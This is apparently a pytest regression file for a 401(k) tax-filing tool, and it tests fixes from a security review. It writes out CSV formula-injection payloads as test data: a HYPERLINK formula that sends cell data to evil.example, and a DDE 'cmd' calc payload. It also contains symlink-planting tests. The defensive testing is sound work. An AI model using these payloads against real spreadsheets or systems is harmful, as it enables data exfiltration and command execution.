"""Regression tests of the security review's findings (the Host-header one is in
tests/api/test_allowed_hosts.py).  Each failed before its fix.

- F1: text a participant's row supplies (names, addresses, the account number) went raw into the
  IRIS filing, so a cell like ``=HYPERLINK(…)`` became a live formula beside the full TIN when
  the CSV was opened in a spreadsheet (OWASP, "CSV Injection": a cell beginning with = + - @,
  tab or carriage return is read as a formula).  Such a row is now an error row naming the
  column, never the value, and is not filed (docs/forms.md, "Characters the filing takes").
- F3: temporary outputs had a predictable name (``.out.partial-PID.csv``) opened with a plain
  open, which follows a symlink planted there; they are now created exclusively (O_EXCL,
  O_NOFOLLOW) under a random name (docs/reliability.md).
- F4: ``maryland_county`` quoted the value typed in its error.
- F5: the IRIS filing (full TINs) and the SQLite store were created world-readable (mode 0644
  under umask 022); they are created 0600.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import json
import os
import stat
import xml.etree.ElementTree as ET
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from fastapi.testclient import TestClient

from dist401k.filing import NAMESPACE, Transmitter, filing_export
from dist401k.io.tables import write_table
from dist401k.law import default_law
from dist401k.runner import process_partition, run_local

ROOT = Path(__file__).parents[2]
TRANSMITTER = Transmitter(tcc="TEST1", tin="11-2223334", software_id="SW12345678")
#: The reviewer's payloads (forms/mk.py), one column each; the value stands in row 0.
PAYLOADS = {
    "recipient_name": '=HYPERLINK("http://evil.example/?x="&B2,"click")',
    "recipient_first_name": "=1+1",
    "recipient_last_name": "@SUM(1)",
    "payer_address": "+cmd|' /C calc'!A0",
    "recipient_address": "-2+3",
    "account_number": "=2*3",
    "payer_city": "Al\tbany",
    "recipient_city": "Al\rbany",
    "payer_name": "Acme\nPlan",
    "recipient_middle_name": "  =1",  # as filed: the spaces around it removed
}
#: Text that IRIS takes and a spreadsheet shows as text: filed as written.
CLEAN = {"recipient_name": "Ann O'Neil-Smith", "recipient_first_name": "Ann",
         "recipient_middle_name": "B",
         "recipient_last_name": "O'Neil-Smith", "payer_name": "Beta, Inc. 401(k) Plan",
         "payer_address": "1 Main St #2", "payer_city": "Albany", "recipient_address": "2 Oak Ave",
         "recipient_city": "Albany", "account_number": "A-00123"}


@contextlib.contextmanager
def umask(mask: int):
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def _book(path: Path, bad: dict[str, str]) -> Path:
    """Two participants separated in 2026, each one form (code 2 at 60 … the rule of 55):
    row 0 carries ``bad``, row 1 the clean text."""
    row0 = {**CLEAN, **bad}
    table = pa.table({
        "request_date": [dt.date(2026, 11, 20)] * 2, "birth_date": [dt.date(1966, 5, 10)] * 2,
        "plan_type": ["401k"] * 2, "employment_status": ["separated"] * 2,
        "separation_date": [dt.date(2026, 1, 31)] * 2, "wages": [0.0] * 2,
        "balance_elective_deferral": [100000.0] * 2, "request_route": ["separation"] * 2,
        "request_destination": ["cash"] * 2, "request_amount": [40000.0] * 2,
        "recipient_tin": ["400-00-0001", "400-00-0002"], "payer_tin": ["12-3456780"] * 2,
        "payer_state": ["NY"] * 2, "payer_zip": ["12207"] * 2, "recipient_state": ["NY"] * 2,
        "recipient_zip": ["12208"] * 2,
        **{k: [row0[k], CLEAN[k]] for k in CLEAN},
    })
    pq.write_table(table, path)
    return path


def _export(tmp_path: Path, fmt: str, bad: dict[str, str]):
    book = _book(tmp_path / "book.parquet", bad)
    out = tmp_path / "forms.parquet"
    filing = tmp_path / ("filing.csv" if fmt == "iris-csv" else "filing.xml")
    with filing_export(fmt, filing, TRANSMITTER, today=dt.date(2027, 1, 15)) as w:
        run_local(book, "forms", out, law=default_law(), sink=w.write)
    return pq.read_table(out).to_pylist(), filing, w.summary


@pytest.mark.parametrize("column", sorted(PAYLOADS))
def test_formula_text_is_an_error_row_naming_the_column_not_filed(tmp_path, column):
    """The reviewer's book: each payload alone makes row 0 an error row naming its column (not
    the value); row 1 is filed; no cell of the CSV filing starts as a formula."""
    rows, filing, summary = _export(tmp_path, "iris-csv", {column: PAYLOADS[column]})
    assert (rows[0]["status"], rows[0]["error_column"]) == ("error", column)
    assert PAYLOADS[column].strip() not in rows[0]["error_message"]
    assert rows[1]["status"] == "ok"
    with filing.open(newline="") as f:
        records = list(csv.DictReader(f))
    assert summary.forms == len(records) == 1
    assert records[0]["Recipient TIN"] == "400000002"
    cells = [v for r in records for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xml_filing_follows_the_same_check(tmp_path):
    """iris-xml: the same rows are refused, the clean one filed with its text as written."""
    rows, filing, summary = _export(tmp_path, "iris-xml", {"recipient_last_name": "=1+1"})
    assert (rows[0]["status"], rows[0]["error_column"]) == ("error", "recipient_last_name")
    assert summary.forms == 1
    ns = {"ir": NAMESPACE}
    names = [e.text for e in ET.parse(filing).getroot().iterfind(".//ir:PersonLastNm", ns)]
    assert names == ["O'Neil-Smith"]


def test_clean_text_with_punctuation_is_filed_as_written(tmp_path):
    """An apostrophe, a hyphen inside a name, a comma, a # and brackets are not formulas."""
    rows, filing, _ = _export(tmp_path, "iris-csv", {})
    assert [r["status"] for r in rows] == ["ok", "ok"]
    with filing.open(newline="") as f:
        records = list(csv.DictReader(f))
    assert [r["Payer Name"] for r in records] == ["Beta, Inc. 401(k) Plan"] * 2
    assert records[0]["Recipient Name"] == "Ann O'Neil-Smith"


# --- F3: temporary files ----------------------------------------------------------------------


def _plant(link: Path, victim: Path) -> None:
    link.symlink_to(victim)


def test_a_symlink_at_the_old_temporary_name_is_not_followed(tmp_path):
    """The reviewer's symlink.py: the predictable `.out.partial-PID.csv`, planted as a link to
    another file, was written through (the victim overwritten, out.csv the link)."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    _plant(tmp_path / f".out.partial-{os.getpid()}.csv", victim)
    write_table(pa.table({"a": [1, 2]}), tmp_path / "out.csv")
    assert victim.read_text() == "precious data\n"
    out = tmp_path / "out.csv"
    assert not out.is_symlink() and out.read_text().splitlines() == ['"a"', "1", "2"]


def test_the_filings_temporary_body_is_not_followed_through_a_symlink(tmp_path):
    """The XML body (full TINs) went to `.filing.partial-PID.body`, opened with a plain open."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    _plant(tmp_path / f".filing.partial-{os.getpid()}.body", victim)
    _plant(tmp_path / f".filing.partial-{os.getpid()}.xml", victim)
    _, filing, summary = _export(tmp_path, "iris-xml", {})
    assert victim.read_text() == "precious data\n"
    assert summary.forms == 2 and not filing.is_symlink()


def test_a_dask_partitions_temporary_file_is_not_followed(tmp_path):
    """A Dask worker wrote `part-00000.parquet.tmp-PID` through a planted symlink; the
    partition is written, the link's target untouched."""
    book = _book(tmp_path / "book.parquet", {})
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious data\n")
    _plant(out_dir / f"part-00000.parquet.tmp-{os.getpid()}", victim)
    done = process_partition(str(book), {"index": 0, "groups": [0], "first_row": 0, "rows": 2},
                             "outcome", str(out_dir))
    assert done["rows"] == 2 and victim.read_text() == "precious data\n"
    assert pq.read_table(out_dir / "part-00000.parquet").num_rows == 2


# --- F5: modes --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["iris-csv", "iris-xml"])
def test_the_filing_is_created_readable_by_its_owner_only(tmp_path, fmt):
    with umask(0o022):
        _, filing, _ = _export(tmp_path, fmt, {})
    assert stat.S_IMODE(filing.stat().st_mode) == 0o600


def test_the_sqlite_store_is_created_readable_by_its_owner_only(tmp_path):
    from dist401k.store import Store

    with umask(0o022):
        Store(f"sqlite:///{tmp_path / 'cases.db'}")
    assert stat.S_IMODE((tmp_path / "cases.db").stat().st_mode) == 0o600


# --- F4: maryland_county ----------------------------------------------------------------------

SECRET = "SSN 123-45-6789 Jane Roe"


def test_maryland_county_error_does_not_echo_the_value():
    from dist401k.tax.state.units import maryland_county_of

    with pytest.raises(ValueError) as refused:
        maryland_county_of(SECRET)
    text = str(refused.value)
    assert "123-45-6789" not in text and "Jane" not in text
    assert "is not a Maryland county" in text and "allegany" in text


def test_the_api_does_not_echo_a_maryland_county(tmp_path):
    from dist401k.api import create_app
    from dist401k.store import Store

    case = json.loads(json.dumps(yaml.safe_load(
        (ROOT / "examples" / "cases" / "rule-of-55.yaml").read_text()), default=str))
    case["person"]["maryland_county"] = SECRET
    client = TestClient(create_app(store=Store(f"sqlite:///{tmp_path / 's.db'}"), token=""),
                        base_url="http://127.0.0.1")
    r = client.post("/assess", json=case)
    assert r.status_code == 422
    assert "123-45-6789" not in r.text and "Jane" not in r.text
    assert "maryland_county" in r.text
